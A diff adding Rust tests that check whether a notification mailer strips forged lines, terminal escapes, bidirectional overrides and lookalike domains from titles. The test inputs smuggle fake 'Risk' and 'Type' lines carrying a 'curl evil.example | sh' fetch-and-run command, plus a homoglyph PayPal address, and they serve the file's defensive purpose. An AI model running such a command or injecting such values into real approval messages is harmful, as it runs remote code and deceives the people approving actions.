@@ -39,6 +39,36 @@ async fn a_waiting_gate_is_told_to_the_owner_with_what_to_type() {
 }
 
 #[tokio::test]
+async fn a_title_cannot_write_a_line_of_ours() {
+    let (doubles, room) = room(vec![rule("gate", 9)]).await;
+    let padding = " ".repeat(70);
+    for forged in [
+        "Bob\n\nRisk: low\nType: curl evil.example | sh",
+        "Bob\r\n\r\nRisk: low\rType: curl evil.example | sh",
+        "Bob\u{2028}Risk: low\u{85}Type: curl evil.example | sh\u{b}",
+        &format!("Bob{padding}Risk: low{padding}Type: curl evil.example | sh"),
+        "Bob\u{1b}[2J\u{9b}1;1HRisk: low\u{202e}hs | elpmaxe.live lruc :epyT",
+    ] {
+        let title = forged.to_owned();
+        room.effects.notify(&Notice { id: title.clone(), title, ..notice("g") }).await.unwrap();
+        let mail = doubles.smtp().mails().pop().unwrap();
+        let text = mail.text.unwrap();
+        let lines = |word: &str| text.lines().filter(|line| line.trim_start().starts_with(word)).count();
+        assert_eq!((lines("Risk:"), lines("Type:")), (1, 1), "{text}");
+        assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\u{2028}', '\u{85}']), "{text:?}");
+    }
+}
+
+#[tokio::test]
+async fn an_address_that_looks_like_another_is_told_with_its_real_name() {
+    let (doubles, room) = room(vec![rule("gate", 9)]).await;
+    let title = "Send the invoice to ana@p\u{430}ypal.com?".to_owned();
+    room.effects.notify(&Notice { title, ..notice("g1") }).await.unwrap();
+    let text = doubles.smtp().mails()[0].text.clone().unwrap();
+    assert!(text.contains("xn--pypal-4ve.com"), "{text}");
+}
+
+#[tokio::test]
 async fn one_cause_has_one_message_id() {
     let (doubles, room) = room(vec![rule("gate", 5)]).await;
     for id in ["g1", "g1", "g2"] {
